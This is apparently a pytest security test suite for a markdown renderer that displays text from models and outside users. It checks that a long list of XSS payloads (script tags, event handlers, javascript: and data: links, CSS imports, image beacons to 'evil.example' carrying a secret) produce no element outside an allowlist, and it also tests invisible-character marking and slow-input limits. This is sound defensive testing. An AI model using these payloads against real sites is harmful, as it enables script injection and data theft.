"""Markdown of models and strangers, rendered."""

import re
import time
from html.parser import HTMLParser

import pytest

from labeling.web.markdown import ATTRIBUTES, MAX_MARKDOWN, TAGS, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</div></div><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/admin/logout/)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](http://a.example/" onmouseover="alert(1))',
    "[x](http://a.example 'q\" onmouseover=\"alert(1)')",
    "![x](http://evil.example/leak.png?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](x)',
    "![x][i]\n\n[i]: http://evil.example/leak.png",
    "[![x](http://evil.example/a.png)](http://evil.example)",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <table><tr><td><script>alert(1)</script> |",
    "| <table> | b |\n|---|---|\n| </td></tr></table><img src=x onerror=alert(1)> | x |",
    "> <script>\n> alert(1)\n> </script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ settings.SECRET_KEY }}{% debug %}${7*7}",
    "\U000f00013C\U000f0002<b>",
    "# <a name=x id=location>x</a>",
    "<x-foo is=a hx-get=/x hx-trigger=load>x</x-foo>",
]


class Elements(HTMLParser):
    """What a browser would find: every element with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_makes_no_element_or_attribute_outside_the_allowlist(payload):
    html = str(render_markdown(payload))
    for tag, attributes in Elements(html).found:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel"}
        if "href" in attributes:
            assert re.match(r"(https?://|mailto:)", attributes["href"])
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"


@pytest.mark.parametrize("payload", ["<b>bold</b>", "<script>alert(1)</script>", "a < b && c > d", "<!-- note -->"])
def test_markup_in_a_text_is_shown_as_it_was_written(payload):
    said = re.sub("<[^>]+>", "", str(render_markdown(payload)))
    assert said.strip() == payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def test_an_image_is_its_alt_text_and_address():
    html = render_markdown("![a cat](http://evil.example/cat.png?q=1)")
    assert "[image: a cat] http://evil.example/cat.png?q=1" in html
    assert "<img" not in html


def test_a_link_shows_where_it_leads():
    html = render_markdown("[your bank](http://evil.example/login)")
    assert '<a href="http://evil.example/login"' in html
    assert "(http://evil.example/login)" in html


def test_an_address_that_is_its_own_text_is_shown_once():
    assert str(render_markdown("<https://a.example>")).count("https://a.example") == 2  # text and href


def test_a_refused_link_stays_visible_as_text():
    html = render_markdown("[click](javascript:alert(1))")
    assert "(javascript:alert(1))" in html
    assert "<a " not in html


@pytest.mark.parametrize("char", ["\u202e", "\u200b", "\u2066", "\x07", "\ufeff", "\u00ad", "\x1b", "\U000e0041"])
def test_characters_that_hide_or_turn_text_are_marked(char):
    html = render_markdown(f"pay{char}pal")
    assert f'<span class="invisible-char" title="U+{ord(char):04X}">' in html
    assert char not in html


def test_marks_are_shown_in_code_and_links_too():
    html = render_markdown("```python\nx = 1  # \u202e\n```\n\n[a\u200bb](http://a.example)")
    assert html.count("invisible-char") == 2


@pytest.mark.parametrize("text", ["👩‍👩‍👧", "می‌خواهم", "क्‍ष", "naïve — “quoted”", "日本語", "🏳️‍🌈"])
def test_ordinary_scripts_and_emoji_carry_no_marks(text):
    assert "invisible-char" not in render_markdown(text)


def test_code_is_highlighted_by_class():
    html = render_markdown("```python\ndef f():\n    return 1\n```")
    assert '<span class="k">def</span>' in html
    assert "style=" not in html


def test_code_of_an_unknown_language_is_plain():
    assert "<pre><code>a &lt; b\n</code></pre>" in render_markdown("```nosuch\na < b\n```")


def test_tables_and_strikethrough_are_rendered():
    html = render_markdown("| a | b |\n|---|---|\n| 1 | ~~2~~ |")
    assert "<td>1</td>" in html and "<s>2</s>" in html


@pytest.mark.parametrize(
    "text",
    [
        "word " * 20_000,
        "x" * 50_000,
        "*a " * 12_000,
        "[" * 30_000,
        "> " * 3_900 + "x",
        "- " * 3_900 + "x",
        "`" * 30_000 + "a",
        "|" * 30_000 + "\n" + "|-" * 15_000,
        "![" * 3_000,
        "<!--" * 9_000,
        "\u202e" * 30_000,
        "**a" * 1_900,
        "```python\n" + "(((" * 6_000,
    ],
    ids=lambda text: text[:10].encode("unicode_escape").decode(),
)
def test_long_and_nasty_texts_render_within_half_a_second(text):
    began = time.process_time()
    html = render_markdown(text)
    assert time.process_time() - began < 0.5
    assert html.startswith('<div class="prose" dir="auto">')


def test_a_text_beyond_the_limit_is_plain_and_whole():
    text = "# *a* <b>\n" * (MAX_MARKDOWN // 10 + 1)
    html = str(render_markdown(text))
    assert '<div class="plain">' in html
    assert html.count("# *a* &lt;b&gt;") == MAX_MARKDOWN // 10 + 1


def test_nothing_and_none_are_an_empty_block():
    assert render_markdown(None) == render_markdown("") == '<div class="prose" dir="auto"></div>'
